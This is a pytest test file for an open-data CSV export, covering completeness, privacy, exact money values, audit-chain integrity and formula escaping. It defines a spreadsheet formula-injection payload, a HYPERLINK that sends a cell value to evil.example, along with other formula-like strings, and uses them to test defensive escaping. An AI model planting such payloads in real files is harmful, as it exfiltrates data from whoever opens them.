"""The alliance's open-data zip, written from the demo alliance on a real database: every
table a CSV, every column in the README, counts and money exact, nothing secret, no live
formula, and nothing of another alliance."""

import csv
import io
import itertools
import re
import zipfile
from collections import defaultdict
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from alliance.actors import CLI, Actor
from alliance.audit.models import AuditChain, AuditEvent
from alliance.auth.models import User
from alliance.auth.services import create_user
from alliance.db import db, utcnow
from alliance.decisions import models as dm
from alliance.decisions import services as decisions
from alliance.decisions.models import DecisionKind
from alliance.decisions.rules import Position
from alliance.demo import load_demo
from alliance.learning import models as lm
from alliance.ledgers import models as gm
from alliance.members import models as mm
from alliance.members import services as members
from alliance.reports import models as rm
from alliance.reports import opendata

EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
MONEY = re.compile(r"-?\d+\.\d{2}")
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
OTHER_NAMES = ("Zephyr Borough Council", "Ottoline Quaye", "Secret Zephyr decision")

FILES = {
    "alliance.csv",
    "principles.csv",
    "values.csv",
    "organisations.csv",
    "people.csv",
    "appointments.csv",
    "interests.csv",
    "decisions.csv",
    "decision_versions.csv",
    "seats.csv",
    "votes.csv",
    "deadlock_cases.csv",
    "deadlock_steps.csv",
    "budget_effects.csv",
    "financial_years.csv",
    "cost_categories.csv",
    "service_lines.csv",
    "ledger_versions.csv",
    "ledger_lines.csv",
    "learning_entries.csv",
    "learning_revisions.csv",
    "learning_citations.csv",
    "review_questions.csv",
    "review_answers.csv",
    "assurance_statements.csv",
    "measures.csv",
    "measure_values.csv",
    "pool_contributions.csv",
    "opening_allocations.csv",
    "risk_share_agreements.csv",
    "risk_share_members.csv",
    "audit_events.csv",
}
MONEY_COLUMNS = {
    "budget_effects.csv": ("amount",),
    "ledger_versions.csv": ("total",),
    "ledger_lines.csv": ("amount", "budget"),
    "pool_contributions.csv": ("amount",),
    "opening_allocations.csv": ("amount",),
    "risk_share_agreements.csv": ("provider_cap",),
}


@dataclass
class Archive:
    zip: zipfile.ZipFile
    alliance_id: int
    other_id: int
    made_between: tuple[datetime, datetime]

    def raw(self, name: str) -> bytes:
        return self.zip.read(name)

    def rows(self, name: str) -> list[dict[str, str]]:
        data = self.raw(name)
        assert data.startswith(b"\xef\xbb\xbf"), f"{name} has no UTF-8 BOM"
        return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    def header(self, name: str) -> list[str]:
        return next(csv.reader(io.StringIO(self.raw(name).decode("utf-8-sig"), newline="")))

    @property
    def readme(self) -> str:
        return self.raw("README.md").decode("utf-8")


def _person(session, alliance, local: str):
    user = session.scalars(select(User).where(User.email == f"{local}@riverside.example")).one()
    membership = members.membership_of(session, alliance, user)
    return Actor(user=user, organisation_id=membership.organisation_id), membership


def _formula_ledger(session, alliance) -> None:
    """A further ledger version whose line descriptions start like formulas, some negative."""
    org = session.scalars(select(mm.Organisation).where(mm.Organisation.slug == "open-door")).one()
    session.add(gm.LedgerFile(sha256="f" * 64, content=b"x", size=1, media_type="text/csv"))
    lines = [("-12.00", HYPERLINK), ("1234.50", "+44 20 7946 0000"), ("0.05", "@SUM(1+1)")]
    version = gm.LedgerVersion(
        alliance_id=alliance.id,
        organisation_id=org.id,
        period_start=date(2027, 4, 1),
        period_end=date(2028, 3, 1),
        number=1,
        file_sha256="f" * 64,
        filename="=cmd.csv",
        line_count=len(lines),
        total=sum((Decimal(amount) for amount, _ in lines), Decimal("0.00")),
    )
    session.add(version)
    session.flush()
    for position, (amount, description) in enumerate(lines, 1):
        session.add(
            gm.LedgerLine(
                version_id=version.id,
                position=position,
                source=f"test row {position}",
                description=description,
                amount=Decimal(amount),
                budget=Decimal("-0.10") if position == 1 else None,
            )
        )


def _other_alliance(session) -> int:
    """A small second alliance, whose names must not appear in the first one's archive."""
    other = members.create_alliance(session, CLI, name="Zephyr Alliance", slug="zephyr")
    org = members.add_organisation(
        session,
        CLI,
        other,
        name=OTHER_NAMES[0],
        kind=mm.OrganisationKind.COMMISSIONER,
        joined_on=date(2026, 4, 1),
    )
    user = create_user(
        session,
        CLI,
        email="ottoline@zephyr.example",
        name=OTHER_NAMES[1],
        password="zephyr passphrase for tests",
        min_length=15,
        check_password=False,
    )
    members.add_member(session, CLI, other, user, org, {mm.Role.COMMISSIONER})
    decisions.propose(
        session,
        Actor(user=user, organisation_id=org.id),
        other,
        title=OTHER_NAMES[2],
        question="Zephyr?",
        kind=DecisionKind.OPERATIONAL,
        rationale="Zephyr",
        citations=["b"],
    )
    session.add(
        rm.PoolContribution(
            alliance_id=other.id,
            financial_year=2026,
            organisation_id=org.id,
            amount=Decimal("999.99"),
            note="Zephyr money",
            recorded_by_id=user.id,
        )
    )
    return other.id


@pytest.fixture
def archive(app, monkeypatch) -> Archive:
    """The demo alliance (with a changed vote and formula-like text) beside a second alliance;
    written in small batches so the streaming is exercised."""
    monkeypatch.setattr(opendata, "BATCH", 50)
    with app.app_context():
        session = db.session
        alliance = load_demo(session, "correct horse battery staple")
        other_id = _other_alliance(session)
        proposer, _ = _person(session, alliance, "council.commissioner")
        decisions.propose(
            session,
            proposer,
            alliance,
            title=HYPERLINK,
            question="-1+1",
            kind=DecisionKind.OPERATIONAL,
            rationale="@risk",
            citations=["b"],
            closes_at=utcnow() + timedelta(days=2),
        )
        waiting = session.scalars(
            select(dm.Decision).where(dm.Decision.status == dm.DecisionStatus.OPEN)
        ).one()
        voter, membership = _person(session, alliance, "trust.rep")
        decisions.cast_vote(session, voter, waiting, membership, position=Position.ABSTAIN)
        _formula_ledger(session, alliance)
        session.commit()
        out = io.BytesIO()
        before = utcnow()
        opendata.write_open_data(session, alliance, out)
        after = utcnow()
        return Archive(zipfile.ZipFile(out), alliance.id, other_id, (before, after))


def test_every_table_is_a_deflated_csv_and_the_readme_describes_every_column(archive):
    assert set(archive.zip.namelist()) == FILES | {"README.md"}
    assert {i.compress_type for i in archive.zip.infolist()} == {zipfile.ZIP_DEFLATED}
    readme = archive.readme
    assert readme.startswith("# Open data: Riverside Complex Needs Alliance\n")
    made = re.search(r"^- Made at: (\S+) \(UTC\)$", readme, re.M).group(1)
    made_at = datetime.strptime(made, "%Y-%m-%dT%H:%M:%S.%f%z")
    assert made_at.tzinfo == UTC and archive.made_between[0] <= made_at <= archive.made_between[1]
    assert "Check before publishing" in readme and "people's names" in readme
    sections = dict(re.findall(r"^### (\S+\.csv)\n(.*?)(?=^### |\Z)", readme, re.M | re.S))
    assert set(sections) == FILES
    for name in FILES:
        header = archive.header(name)
        assert header and len(header) == len(set(header))
        described = re.findall(r"^\| `([a-z_0-9]+)` \| (.+?) \| (.+?) \|$", sections[name], re.M)
        assert [column for column, _, _ in described] == header, name
        assert all(meaning and kind for _, meaning, kind in described), name
    ledger = sections["ledger_lines.csv"]
    assert re.search(r"^\| `amount` \| .+ \| money: pounds with exactly two decimal", ledger, re.M)
    assert re.search(r"^\| `limb` \| .+ `limb1`, `limb2`, `income` \|$", ledger, re.M)
    people = sections["people.csv"]
    assert "`board_representative`" in people and "`observer`" in people


def _count(statement) -> int:
    return db.session.scalar(select(func.count()).select_from(statement.subquery()))


def _expected_counts(alliance_id: int) -> dict[str, int]:
    decision_ids = select(dm.Decision.id).where(dm.Decision.alliance_id == alliance_id)
    entry_ids = select(lm.LearningEntry.id).where(lm.LearningEntry.alliance_id == alliance_id)

    def of(model):
        return select(model.id).where(model.alliance_id == alliance_id)

    chain = select(AuditChain.id).where(AuditChain.alliance_id == alliance_id)
    return {
        "alliance.csv": 1,
        "principles.csv": _count(of(mm.Principle)),
        "values.csv": _count(of(mm.AllianceValue)),
        "organisations.csv": _count(of(mm.Organisation)),
        "people.csv": _count(of(mm.Membership)),
        "appointments.csv": _count(of(mm.Appointment)),
        "interests.csv": _count(of(mm.Interest)),
        "decisions.csv": _count(of(dm.Decision)),
        "decision_versions.csv": _count(
            select(dm.DecisionVersion.id).where(dm.DecisionVersion.decision_id.in_(decision_ids))
        ),
        "seats.csv": _count(select(dm.Seat.id).where(dm.Seat.decision_id.in_(decision_ids))),
        "votes.csv": _count(select(dm.Vote.id).where(dm.Vote.decision_id.in_(decision_ids))),
        "deadlock_cases.csv": _count(
            select(dm.DeadlockCase.id).where(dm.DeadlockCase.decision_id.in_(decision_ids))
        ),
        "deadlock_steps.csv": _count(
            select(dm.DeadlockStep.id)
            .join(dm.DeadlockCase)
            .where(dm.DeadlockCase.decision_id.in_(decision_ids))
        ),
        "budget_effects.csv": _count(
            select(dm.BudgetEffect.id).where(dm.BudgetEffect.decision_id.in_(decision_ids))
        ),
        "financial_years.csv": _count(of(gm.FinancialYear)),
        "cost_categories.csv": _count(of(gm.CostCategory)),
        "service_lines.csv": _count(of(gm.ServiceLine)),
        "ledger_versions.csv": _count(of(gm.LedgerVersion)),
        "ledger_lines.csv": _count(
            select(gm.LedgerLine.id)
            .join(gm.LedgerVersion)
            .where(gm.LedgerVersion.alliance_id == alliance_id)
        ),
        "learning_entries.csv": _count(of(lm.LearningEntry)),
        "learning_revisions.csv": _count(
            select(lm.EntryRevision.id).where(lm.EntryRevision.entry_id.in_(entry_ids))
        ),
        "learning_citations.csv": _count(
            select(lm.EntryCitation.id).where(lm.EntryCitation.entry_id.in_(entry_ids))
        ),
        "review_questions.csv": _count(
            select(lm.ReviewQuestion.id).where(lm.ReviewQuestion.entry_id.in_(entry_ids))
        ),
        "review_answers.csv": _count(
            select(lm.ReviewAnswer.id)
            .join(lm.ReviewQuestion)
            .where(lm.ReviewQuestion.entry_id.in_(entry_ids))
        ),
        "assurance_statements.csv": _count(of(lm.AssuranceStatement)),
        "measures.csv": _count(of(lm.Measure)),
        "measure_values.csv": _count(
            select(lm.MeasureValue.id).join(lm.Measure).where(lm.Measure.alliance_id == alliance_id)
        ),
        "pool_contributions.csv": _count(of(rm.PoolContribution)),
        "opening_allocations.csv": _count(of(rm.OpeningAllocation)),
        "risk_share_agreements.csv": _count(of(rm.RiskShareAgreement)),
        "risk_share_members.csv": _count(
            select(rm.RiskShareMember.id)
            .join(rm.RiskShareAgreement)
            .where(rm.RiskShareAgreement.alliance_id == alliance_id)
        ),
        "audit_events.csv": _count(select(AuditEvent.id).where(AuditEvent.chain_id.in_(chain))),
    }


def test_each_file_has_a_row_for_each_of_the_alliances_rows_and_the_readme_says_how_many(
    app, archive
):
    with app.app_context():
        expected = _expected_counts(archive.alliance_id)
    assert set(expected) == FILES
    actual = {name: len(archive.rows(name)) for name in FILES}
    assert actual == expected
    # The demo fills the record: the tables that matter most are not empty.
    for name in (
        "decisions.csv",
        "votes.csv",
        "ledger_lines.csv",
        "learning_revisions.csv",
        "risk_share_members.csv",
        "pool_contributions.csv",
    ):
        assert actual[name] > 0
    assert actual["ledger_lines.csv"] > 500  # many batches of 50
    for name, count in expected.items():
        assert f"- `{name}` ({count} row" in archive.readme


def test_money_is_exact_text_and_each_versions_lines_add_up_to_its_total(app, archive):
    for name, columns in MONEY_COLUMNS.items():
        rows = archive.rows(name)
        assert rows, name
        for row in rows:
            for column in columns:
                assert MONEY.fullmatch(row[column]) or (column == "budget" and not row[column])
    sums: dict[str, Decimal] = defaultdict(lambda: Decimal("0.00"))
    counts: dict[str, int] = defaultdict(int)
    for line in archive.rows("ledger_lines.csv"):
        sums[line["version_id"]] += Decimal(line["amount"])
        counts[line["version_id"]] += 1
    versions = archive.rows("ledger_versions.csv")
    assert len(versions) == 6
    with app.app_context():
        stored = dict(
            db.session.execute(
                select(gm.LedgerVersion.id, gm.LedgerVersion.total).where(
                    gm.LedgerVersion.alliance_id == archive.alliance_id
                )
            ).all()
        )
    for version in versions:
        total = Decimal(version["total"])
        assert sums[version["id"]] == total == stored[int(version["id"])]
        assert counts[version["id"]] == int(version["line_count"])
    assert {version["number"] for version in versions} == {"1", "2"}  # every version
    formula = [line for line in archive.rows("ledger_lines.csv") if line["source"] == "test row 1"]
    assert [(line["amount"], line["budget"]) for line in formula] == [("-12.00", "-0.10")]
    measures = [row["value"] for row in archive.rows("measure_values.csv")]
    assert measures and all(re.fullmatch(r"-?\d+\.\d{4}", value) for value in measures)


def test_times_dates_booleans_and_codes_are_written_as_the_readme_says(archive):
    votes = archive.rows("votes.csv")
    assert all(TIME.fullmatch(vote["cast_at"]) for vote in votes)
    trust = [v for v in votes if v["organisation"].startswith("Riverside and Vale")]
    # Both of the trust's votes on the waiting decision are kept; only the later one counts.
    assert [(v["position"], v["is_current"]) for v in trust[-2:]] == [
        ("agree", "false"),
        ("abstain", "true"),
    ]
    assert {v["is_current"] for v in votes} == {"true", "false"}
    organisations = archive.rows("organisations.csv")
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d", o["joined_on"]) for o in organisations)
    assert {o["left_on"] for o in organisations} == {""}
    names = [o["name"] for o in organisations]
    assert names == sorted(names, key=str.casefold) and len(names) == 6
    carried = archive.rows("decisions.csv")[0]
    assert (carried["result"], carried["citations"]) == ("carried", "a b person-centred")
    assert (carried["abstention_policy"], carried["closed_by"]) == ("stand_aside", "Dr Amara Nwosu")
    roles = {p["name"]: p["roles"] for p in archive.rows("people.csv")}
    assert roles["Owen Davies"] == "board_alternate finance_lead"
    assert roles["Jo Marsh"] == "observer"


def test_no_email_address_password_hash_or_token_is_anywhere_in_the_archive(app, archive):
    with app.app_context():
        users = db.session.execute(select(User.email, User.password_hash)).all()
    assert users and all(password.startswith("$argon2") for _, password in users)
    for name in archive.zip.namelist():
        text = archive.raw(name).decode("utf-8-sig")
        assert not EMAIL.search(text), (name, EMAIL.search(text))
        assert "$argon2" not in text, name
        for email, password in users:
            assert email not in text and password not in text, name
    # Where the record named someone by their address, the archive names them.
    events = archive.rows("audit_events.csv")
    votes = [e for e in events if e["action"] == "vote_cast"]
    assert votes and {e["actor"] for e in votes} >= {"Priya Shah", "Dr Kieran Walsh"}
    member_added = next(e for e in events if e["action"] == "member_add")
    assert '"person": "Sam Okafor"' in member_added["summary"]
    assert "password" not in " ".join(archive.header("people.csv"))


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_made_inert(archive):
    titles = [d["title"] for d in archive.rows("decisions.csv")]
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    ours = next(d for d in archive.rows("decisions.csv") if d["title"] == "'" + HYPERLINK)
    assert (ours["question"], ours["rationale"]) == ("'-1+1", "'@risk")
    descriptions = {line["description"] for line in archive.rows("ledger_lines.csv")}
    assert {"'" + HYPERLINK, "'+44 20 7946 0000", "'@SUM(1+1)"} <= descriptions
    assert HYPERLINK not in descriptions
    assert "'=cmd.csv" in {v["filename"] for v in archive.rows("ledger_versions.csv")}
    for name in FILES:
        for row in csv.reader(io.StringIO(archive.raw(name).decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r\n\x00", (name, cell)
                assert not cell.startswith("-") or MONEY.fullmatch(cell), (name, cell)


def test_another_alliances_data_is_not_in_the_archive(app, archive):
    everything = "".join(archive.raw(name).decode("utf-8-sig") for name in archive.zip.namelist())
    for name in (*OTHER_NAMES, "Zephyr", "999.99"):
        assert name not in everything
    (alliance,) = archive.rows("alliance.csv")
    assert (alliance["id"], alliance["slug"]) == (str(archive.alliance_id), "riverside")
    with app.app_context():
        session = db.session
        theirs = {
            "decisions.csv": session.scalars(
                select(dm.Decision.id).where(dm.Decision.alliance_id == archive.other_id)
            ).all(),
            "organisations.csv": session.scalars(
                select(mm.Organisation.id).where(mm.Organisation.alliance_id == archive.other_id)
            ).all(),
            "audit_events.csv": session.scalars(
                select(AuditEvent.id)
                .join(AuditChain, AuditChain.id == AuditEvent.chain_id)
                .where(AuditChain.alliance_id == archive.other_id)
            ).all(),
        }
    for name, ids in theirs.items():
        assert ids, name
        assert not {str(i) for i in ids} & {row["id"] for row in archive.rows(name)}, name


def test_the_audit_record_is_whole_in_order_and_ends_at_the_chains_head(app, archive):
    events = archive.rows("audit_events.csv")
    assert [int(e["seq"]) for e in events] == list(range(1, len(events) + 1))
    assert events[0]["prev_hash"] == "0" * 64
    for before, event in itertools.pairwise(events):
        assert event["prev_hash"] == before["hash"]
    assert all(TIME.fullmatch(e["occurred_at"]) for e in events)
    with app.app_context():
        chain = db.session.scalars(
            select(AuditChain).where(AuditChain.alliance_id == archive.alliance_id)
        ).one()
        stored = db.session.scalars(
            select(AuditEvent.hash).where(AuditEvent.chain_id == chain.id).order_by(AuditEvent.seq)
        ).all()
        head = (chain.head_seq, chain.head_hash)
    assert [e["hash"] for e in events] == stored
    assert (int(events[-1]["seq"]), events[-1]["hash"]) == head
    assert f"the chain's head was event {head[0]}, with hash `{head[1]}`" in archive.readme
